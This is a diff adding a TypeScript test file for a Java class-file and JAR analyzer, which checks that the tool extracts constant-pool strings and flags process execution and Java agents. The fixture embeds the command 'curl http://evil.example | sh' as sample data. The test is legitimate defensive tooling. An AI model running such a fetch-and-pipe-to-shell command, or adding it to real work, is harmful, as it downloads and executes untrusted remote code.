@@ -0,0 +1,90 @@
+import { describe, it, expect } from "bun:test";
+import { analyzeBuffer } from "../src/analysis";
+import { parseJava } from "../src/analysis/parsers/java";
+import { zip } from "./fixtures/zip";
+
+const encoder = new TextEncoder();
+
+function u16(n: number): number[] {
+  return [n >> 8, n & 0xff];
+}
+
+function utf8Constant(value: string): number[] {
+  const bytes = encoder.encode(value);
+  return [1, ...u16(bytes.length), ...bytes];
+}
+
+/** A Java 17 class com.example.Main that calls Runtime.exec and holds one string literal */
+function classFile(major = 61): Uint8Array {
+  const pool = [
+    ...utf8Constant("com/example/Main"), // 1
+    7, ...u16(1), // 2
+    ...utf8Constant("java/lang/Object"), // 3
+    7, ...u16(3), // 4
+    ...utf8Constant("java/lang/Runtime"), // 5
+    7, ...u16(5), // 6
+    ...utf8Constant("exec"), // 7
+    ...utf8Constant("(Ljava/lang/String;)Ljava/lang/Process;"), // 8
+    12, ...u16(7), ...u16(8), // 9
+    10, ...u16(6), ...u16(9), // 10
+    ...utf8Constant("curl http://evil.example | sh"), // 11
+    8, ...u16(11), // 12
+    5, 0, 0, 0, 0, 0, 0, 0, 42, // 13 and 14
+    ...utf8Constant("SourceFile"), // 15
+  ];
+  return new Uint8Array([
+    0xca, 0xfe, 0xba, 0xbe, ...u16(0), ...u16(major), ...u16(16), ...pool,
+    ...u16(0x21), ...u16(2), ...u16(4), ...u16(0), ...u16(0), ...u16(0), ...u16(0),
+  ]);
+}
+
+const MANIFEST = "Manifest-Version: 1.0\r\nMain-Class: com.example.Main\r\nPremain-Class: com.exa\r\n mple.Agent\r\n\r\nName: com/example/\r\nSealed: true\r\n";
+
+describe("parseJava: class files", () => {
+  it("should read the version, names and constant-pool strings", () => {
+    const { metadata } = parseJava(classFile());
+
+    expect(metadata).toMatchObject({ kind: "class", classCount: 1, versions: { "Java 17": 1 } });
+    expect(metadata.class).toEqual({
+      name: "com.example.Main",
+      superName: "java.lang.Object",
+      major: 61,
+      minor: 0,
+      javaVersion: "Java 17",
+      strings: ["curl http://evil.example | sh"],
+    });
+  });
+
+  it("should flag references to process execution", () => {
+    const { findings } = parseJava(classFile(50));
+
+    expect(findings).toEqual([{ id: "java.process-execution", severity: "medium", message: "com.example.Main runs external commands", source: "java" }]);
+  });
+});
+
+describe("parseJava: JAR archives", () => {
+  it("should read the manifest, main class and agent attributes", () => {
+    const jar = zip({ "META-INF/MANIFEST.MF": MANIFEST, "com/example/Main.class": classFile(52), "com/example/Util.class": classFile(52) });
+    const { metadata, findings } = parseJava(jar);
+
+    expect(metadata).toMatchObject({ kind: "jar", classCount: 2, versions: { "Java 8": 2 }, mainClass: "com.example.Main", signed: false });
+    expect(metadata.manifest).toEqual({ "Manifest-Version": "1.0", "Main-Class": "com.example.Main", "Premain-Class": "com.example.Agent" });
+    expect(metadata.class?.strings).toEqual(["curl http://evil.example | sh"]);
+    expect(findings.map((finding) => finding.id)).toEqual(["java.agent", "java.process-execution"]);
+  });
+
+  it("should report a Main-Class that is not in the archive", () => {
+    const { findings } = parseJava(zip({ "META-INF/MANIFEST.MF": "Main-Class: app.Missing\n" }));
+
+    expect(findings.map((finding) => finding.id)).toEqual(["java.missing-main-class"]);
+  });
+});
+
+describe("analyzeBuffer with Java", () => {
+  it("should add metadata.java for archives whose first entry is not META-INF", () => {
+    const analysis = analyzeBuffer(zip({ "com/example/Main.class": classFile(), "META-INF/MANIFEST.MF": MANIFEST }), { name: "tool.jar" });
+
+    expect(analysis.metadata.java?.mainClass).toBe("com.example.Main");
+    expect(analysis.metadata.zip?.entries.length).toBe(2);
+  });
+});